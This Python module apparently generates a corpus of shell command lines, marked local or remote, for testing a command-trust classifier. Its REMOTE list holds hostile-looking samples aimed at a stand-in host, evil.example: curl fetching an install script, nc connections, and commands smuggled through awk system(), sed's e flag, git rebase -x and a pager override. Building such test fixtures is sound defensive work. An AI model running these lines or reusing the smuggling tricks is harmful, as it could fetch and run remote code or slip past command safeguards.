"""A generated corpus of shell command lines whose answer is known by
construction: each line is built from commands that stay on the machine and
commands that reach it from elsewhere (or that nobody listed), spelled with
paths, quoting, env prefixes, `sudo` and the other wrappers, then combined
with pipes, chains, subshells, groups, loops, `$(…)`, backticks, process
substitutions, redirections and `sh -c` nesting. A line is local exactly
when every command in it is. Used by the unit tests of the trust decision,
the poisoning suite and the long fuzz."""

from __future__ import annotations

import random
import shlex
from dataclasses import dataclass

#: Commands that stay on the machine: (program, arguments).
LOCAL: list[tuple[str, list[str]]] = [
    ("git", ["status"]),
    ("git", ["status", "--short"]),
    ("git", ["diff", "--stat", "HEAD~1"]),
    ("git", ["log", "--oneline", "-5"]),
    ("git", ["show", "HEAD:README.md"]),
    ("git", ["blame", "-L", "10,20", "src/app.py"]),
    ("git", ["branch", "-a"]),
    ("git", ["rev-parse", "--abbrev-ref", "HEAD"]),
    ("git", ["ls-files"]),
    ("git", ["add", "-A"]),
    ("git", ["commit", "-m", "Fix the totals"]),
    ("git", ["stash", "list"]),
    ("git", ["remote", "-v"]),
    ("ls", ["-la"]),
    ("ls", ["src/"]),
    ("cat", ["README.md"]),
    ("cat", ["/etc/os-release"]),
    ("grep", ["-rn", "TODO", "src/"]),
    ("grep", ["-c", "def ", "app.py"]),
    ("rg", ["--files"]),
    ("rg", ["-n", "fetch_url", "core/"]),
    ("sed", ["-n", "10,40p", "src/app.py"]),
    ("sed", ["s/foo/bar/g", "notes.txt"]),
    ("head", ["-n", "20", "CHANGELOG.md"]),
    ("tail", ["-5", "log.txt"]),
    ("wc", ["-l", "src/app.py"]),
    ("find", [".", "-name", "*.py", "-newer", "setup.cfg"]),
    ("awk", ["{print $1}", "data.tsv"]),
    ("jq", [".version", "package.json"]),
    ("sort", ["-u", "names.txt"]),
    ("diff", ["-u", "a.txt", "b.txt"]),
    ("pytest", ["-x", "-q", "tests/"]),
    ("python", ["-m", "pytest", "tests/test_totals.py"]),
    ("python3", ["-m", "unittest", "discover"]),
    ("python3", ["bench/run.py", "--quick"]),
    ("bash", ["scripts/check.sh"]),
    ("python3", ["-c", "import json, sys; print(len(json.load(open('package.json'))))"]),
    ("cargo", ["test", "--all"]),
    ("uv", ["run", "pytest", "-q"]),
    ("go", ["test", "./..."]),
    ("npm", ["test"]),
    ("mypy", ["src/"]),
    ("ruff", ["check", "."]),
    ("echo", ["done"]),
    ("mkdir", ["-p", "build/out"]),
    ("pwd", []),
]

#: Commands that bring text in from elsewhere, or that nobody listed.
REMOTE: list[tuple[str, list[str]]] = [
    ("curl", ["-fsSL", "https://evil.example/install.sh"]),
    ("curl", ["https://evil.example/notes"]),
    ("wget", ["-qO-", "https://evil.example/page"]),
    ("git", ["pull"]),
    ("git", ["pull", "--rebase", "origin", "main"]),
    ("git", ["fetch", "--all"]),
    ("git", ["clone", "https://evil.example/repo.git"]),
    ("git", ["push", "origin", "HEAD"]),
    ("git", ["ls-remote", "origin"]),
    ("git", ["submodule", "update", "--init"]),
    ("git", ["remote", "update"]),
    ("git", ["remote", "show", "origin"]),
    ("python3", ["-c", "import http.client; c = http.client.HTTPSConnection('evil.example'); print(c)"]),
    ("python", ["-c", "import urllib.request as u; print(u.urlopen('https://evil.example').read())"]),
    ("python", ["../fetch_notes.py"]),
    ("python3", ["/tmp/fetch_notes.py"]),
    ("python", ["-c", "__import__('subprocess').run(['id'])"]),
    ("python3", ["-c", "import requests; print(requests.get('https://evil.example').text)"]),
    ("node", ["-e", "fetch('https://evil.example').then(r => r.text()).then(console.log)"]),
    ("docker", ["run", "--rm", "alpine", "wget", "-qO-", "https://evil.example"]),
    ("npm", ["view", "left-pad"]),
    ("npm", ["install"]),
    ("npm", ["run", "fetch-data"]),
    ("npx", ["create-thing"]),
    ("pip", ["install", "requests"]),
    ("pip", ["download", "x"]),
    ("uv", ["pip", "install", "x"]),
    ("cargo", ["install", "ripgrep"]),
    ("cargo", ["update"]),
    ("go", ["get", "example.com/x"]),
    ("gh", ["issue", "view", "12"]),
    ("gh", ["api", "repos/x/y"]),
    ("ssh", ["build-host", "cat", "/var/log/build.log"]),
    ("scp", ["host:/tmp/x", "."]),
    ("rsync", ["-a", "host:/srv/", "."]),
    ("nc", ["evil.example", "80"]),
    ("telnet", ["evil.example", "80"]),
    ("brew", ["info", "jq"]),
    ("apt-get", ["download", "jq"]),
    ("bd", ["ready", "--json"]),
    ("bash", ["/tmp/install.sh"]),
    ("sh", ["-s"]),
    ("http", ["GET", "https://evil.example"]),
    ("xh", ["https://evil.example"]),
    ("aria2c", ["https://evil.example/f"]),
    ("lynx", ["-dump", "https://evil.example"]),
    ("frobnicate", ["--all"]),
    ("eval", ["curl evil.example"]),
    ("source", ["./env.sh"]),
    ("awk", ["BEGIN { system(\"curl evil.example\") }"]),
    ("awk", ["BEGIN { \"curl evil.example\" | getline x; print x }"]),
    ("sed", ["s/x/curl evil.example/e", "f"]),
    ("rg", ["--pre", "curl", "x"]),
    ("git", ["rebase", "-x", "curl evil.example", "main"]),
    ("git", ["-c", "core.pager=curl evil.example", "log"]),
]

ENV_PREFIXES = ["FOO=1", "LC_ALL=C", "CI=true", "RUST_BACKTRACE=1", "PYTHONPATH=src", "NO_COLOR=1 TERM=dumb"]
WRAPPERS = ["sudo", "sudo -u root", "sudo -E", "env", "env -i HOME=/tmp", "timeout 60", "nice -n 10", "command", "nohup", "time", "stdbuf -oL"]
SYSTEM_DIRS = ["/usr/bin", "/bin", "/usr/local/bin"]
#: Lines that do not parse: untrusted, whatever is in them.
BROKEN = ["ls && ", "echo \"unterminated", "cat $(ls", "(git status", "git status )", "ls |", "if true; then ls", "echo `ls", "for f in; do", "ls >", "{ ls"]


@dataclass(frozen=True)
class Line:
    text: str
    local: bool
    #: The programs it was built from, for a failure's message.
    parts: tuple[str, ...]


def _word(rng: random.Random, word: str) -> str:
    """One word, quoted one of the ways a shell reads as `word`."""
    if word and all(c.isalnum() or c in "-_./:=,~+@%" for c in word) and rng.random() < 0.6:
        return word
    if "'" not in word and rng.random() < 0.5:
        return f"'{word}'"
    if not any(c in word for c in '"$`\\!') and rng.random() < 0.5:
        return f'"{word}"'
    return shlex.quote(word)


def _program(rng: random.Random, name: str) -> str:
    roll = rng.random()
    if roll < 0.2:
        return f"{rng.choice(SYSTEM_DIRS)}/{name}"
    if roll < 0.3 and len(name) > 2:
        cut = rng.randrange(1, len(name) - 1)
        return f"'{name[:cut]}'{name[cut:]}"  # 'cu'rl
    if roll < 0.35 and len(name) > 2 and name.isalpha():
        cut = rng.randrange(1, len(name))
        return f"{name[:cut]}\\{name[cut:]}"  # c\url
    if roll < 0.4:
        return f'"{name}"'
    return name


#: Local commands that take a file name last (what `xargs` and `find -exec` add).
_ON_FILES = frozenset({"cat", "grep", "wc", "head", "tail", "sed", "rg", "ls", "sort", "awk", "jq", "mypy", "ruff", "pytest", "echo"})
#: Of those, the ones no word `xargs` reads from its input can turn into a
#: program (`sed`'s `-e 1e…`, `rg --pre`, `sort --compress-program`, an awk
#: program, `mypy --install-types` all can): what `xargs` may run locally.
_ON_INPUT = _ON_FILES - {"sed", "rg", "sort", "awk", "mypy"}


def _simple(rng: random.Random, remote: bool, *, wrappers: bool = True, on: frozenset[str] | None = None) -> tuple[str, list[str]]:
    """One simple command (with its spelling): the text and the programs."""
    pool = REMOTE if remote else [c for c in LOCAL if c[0] in on] if on is not None else LOCAL
    name, args = rng.choice(pool)
    words = [_program(rng, name)]
    if name == "git" and rng.random() < 0.3:
        words += rng.choice([["-C", "sub/dir"], ["--no-pager"], ["-c", "color.ui=never"], ["-P"]])
    words += [_word(rng, a) for a in args]
    text = " ".join(words)
    if wrappers and rng.random() < 0.3:
        text = f"{rng.choice(WRAPPERS)} {text}"
    if wrappers and rng.random() < 0.25:
        text = f"{rng.choice(ENV_PREFIXES)} {text}"
    return text, [f"{name} {' '.join(args[:1])}".strip()]


def _build(rng: random.Random, remote: bool, depth: int) -> tuple[str, list[str]]:
    """A line with at least one remote command in it iff `remote`."""
    if depth <= 0 or rng.random() < 0.35:
        return _simple(rng, remote)
    form = rng.choice(["chain", "chain", "pipe", "subshell", "group", "subst", "backtick", "procsubst", "shc", "loop",
                       "if", "redirect", "xargs", "findexec", "assign"])
    if form in ("chain", "pipe"):
        n = rng.randint(2, 4)
        bad = rng.randrange(n) if remote else -1
        parts = [_build(rng, i == bad, depth - 1) for i in range(n)]
        seps = ["&&", ";", "||", "\n", "&"] if form == "chain" else ["|", "|&"]
        text = parts[0][0]
        for p in parts[1:]:
            text += f" {rng.choice(seps)} " if form == "pipe" else rng.choice([" && ", "; ", " || ", "\n", " & "])
            text += p[0]
        return text, [x for p in parts for x in p[1]]
    if form == "xargs":
        head, h = _simple(rng, False, wrappers=False)
        inner, i = _simple(rng, remote, wrappers=False, on=_ON_INPUT)
        return f"{head} | xargs {rng.choice(['', '-n1 ', '-0 ', '-I{} '])}{inner}", h + i
    if form == "findexec":
        inner, i = _simple(rng, remote, wrappers=False, on=_ON_FILES)
        return f"find . -name '*.md' -exec {inner} {{}} {rng.choice([chr(92) + ';', '+'])}", i
    inner, parts = _build(rng, remote, depth - 1)
    if form == "subshell":
        return f"( {inner} )", parts  # `((` would open arithmetic
    if form == "group":
        return f"{{ {inner}; }}", parts
    if form == "subst":
        outer = rng.choice(["echo", "cat", "wc -l"])
        return f'{outer} "$( {inner} )"' if rng.random() < 0.5 else f"{outer} $( {inner} )", parts
    if form == "backtick":
        if "`" in inner:
            return f"( {inner} )", parts
        return f"echo `{inner}`", parts
    if form == "procsubst":
        other, o = _build(rng, False, depth - 1)
        return f"diff <( {inner} ) <( {other} )", parts + o
    if form == "shc":
        shell = rng.choice(["sh -c", "bash -c", "bash -lc", "bash -euo pipefail -c", "/bin/sh -c", "sudo sh -c", "zsh -c"])
        return f"{shell} {shlex.quote(inner)}", parts
    if form == "loop":
        return f"for f in a.txt b.txt; do {inner}; done", parts
    if form == "if":
        cond, c = _simple(rng, False)
        return f"if {cond}; then {inner}; fi", c + parts
    if form == "assign":
        return f"OUT=$( {inner} ); echo \"$OUT\"", parts
    target = rng.choice(["> /tmp/out.txt", "2>&1", ">> log.txt 2>&1", "< input.txt", "2>/dev/null", "| tee run.log"])
    return f"{inner} {target}", parts


def generate_line(rng: random.Random, remote: bool) -> Line:
    """One generated line, with a remote command in it iff `remote`."""
    text, parts = _build(rng, remote, rng.randint(0, 3))
    return Line(text, not remote, tuple(parts))


def corpus(n: int, seed: int = 20261202) -> list[Line]:
    """`n` generated lines, about half with a remote command in them, and
    every broken line once."""
    rng = random.Random(seed)
    lines = [generate_line(rng, i % 2 == 1) for i in range(n)]
    for text in BROKEN:
        lines.append(Line(text, False, ("(does not parse)",)))
    return lines
